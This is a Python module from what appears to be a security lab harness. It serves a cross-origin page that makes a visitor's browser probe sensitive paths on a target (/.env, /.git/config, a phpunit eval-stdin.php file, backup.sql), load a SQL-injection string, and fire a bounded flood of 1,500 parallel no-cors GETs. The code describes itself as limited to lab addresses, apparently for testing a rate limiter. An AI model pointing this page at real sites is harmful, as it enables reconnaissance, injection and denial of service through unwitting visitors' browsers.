"""A page on another origin (served by the controller on the lab bridge) that makes its
visitor's browser request probe URIs and a bounded volume of GETs from the difusor: what any
third-party page can do to every visitor. Traffic goes only to lab addresses."""

from __future__ import annotations

import http.server
import re
import socket
import threading

PROBES = ["/.env", "/.git/config", "/wp-login.php", "/xmlrpc.php", "/phpmyadmin/",
          "/cgi-bin/test.cgi", "/index.php", "/backup.sql", "/actuator/health",
          "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"]
VOLUME = 1500  # GETs the page makes the browser send (the lab's limit: 50/s, burst 200)
PARALLEL = 50  # fetches in flight at once (a page's loop of workers)
FETCH_MS = 5000  # each fetch is aborted after this long (AbortController)
TOTAL_MS = 60000  # no fetch is started after this long: the loop always ends
RESULT = re.compile(r"hecho (\d+) respondidas (\d+) fallidas (\d+) agotadas (\d+) "
                    r"sin enviar (\d+)")


def page(target: str) -> str:
    """The attacker's page: probe URIs in <img>, <script> and <iframe>, then a loop of
    no-cors fetches, bounded in count (VOLUME), time per fetch (FETCH_MS, aborted) and time
    in all (TOTAL_MS); it writes `hecho <n> respondidas <a> fallidas <f> agotadas <t> sin
    enviar <s>` into itself when the loop has ended (n = a + f + t + s = VOLUME), and its
    progress meanwhile. A no-cors answer is opaque: 200 and 429 are both "respondidas";
    "fallidas" are network errors (reset, refused, TLS), "agotadas" the aborted ones."""
    imgs = "\n".join(f'<img src="{target}{p}" alt="">' for p in PROBES[:6])
    scripts = "\n".join(f'<script src="{target}{p}"></script>' for p in PROBES[6:8])
    frames = "\n".join(f'<iframe src="{target}{p}"></iframe>' for p in PROBES[8:])
    return f"""<!doctype html><meta charset="utf-8"><title>otro sitio</title>
<p>Un sitio cualquiera.</p>
{imgs}
{scripts}
{frames}
<iframe src="{target}/index.html?id=1%27%20OR%20%271%27=%271"></iframe>
<p id="progreso">empezando</p>
<script>
(async () => {{
  const deadline = Date.now() + {TOTAL_MS};
  const n = {{respondidas: 0, fallidas: 0, agotadas: 0, sin_enviar: 0}};
  const errores = {{}};
  let next = 0;
  const show = (word) => {{
    document.getElementById("progreso").textContent = word + " " +
      (n.respondidas + n.fallidas + n.agotadas + n.sin_enviar) + " respondidas " +
      n.respondidas + " fallidas " + n.fallidas + " agotadas " + n.agotadas +
      " sin enviar " + n.sin_enviar + " errores " + JSON.stringify(errores);
  }};
  const worker = async () => {{
    while (next < {VOLUME}) {{
      const i = next++;
      const left = deadline - Date.now();
      if (left <= 0) {{ n.sin_enviar++; continue; }}
      const ctl = new AbortController();
      const timer = setTimeout(() => ctl.abort(), Math.min({FETCH_MS}, left));
      try {{
        await fetch("{target}/index.html?v=" + i,
                    {{mode: "no-cors", cache: "no-store", signal: ctl.signal}});
        n.respondidas++;
      }} catch (e) {{
        if (e.name === "AbortError") n.agotadas++;
        else {{ n.fallidas++; errores[e.message] = (errores[e.message] || 0) + 1; }}
      }} finally {{
        clearTimeout(timer);
      }}
    }}
  }};
  const ticker = setInterval(() => show("van"), 1000);
  await Promise.all(Array.from({{length: {PARALLEL}}}, worker));
  clearInterval(ticker);
  show("hecho");
}})();
</script>
"""


def free_port(address: str) -> int:
    with socket.socket() as s:
        s.bind((address, 0))
        return s.getsockname()[1]


class CrossSite:
    """The page above, served over plain HTTP at http://<address>:<port>/ from a thread."""

    def __init__(self, address: str, target: str):
        body = page(target).encode()

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                self.send_response(200)
                self.send_header("Content-Type", "text/html; charset=utf-8")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args):
                pass

        self.server = http.server.ThreadingHTTPServer((address, free_port(address)), Handler)
        self.origin = f"http://{address}:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()
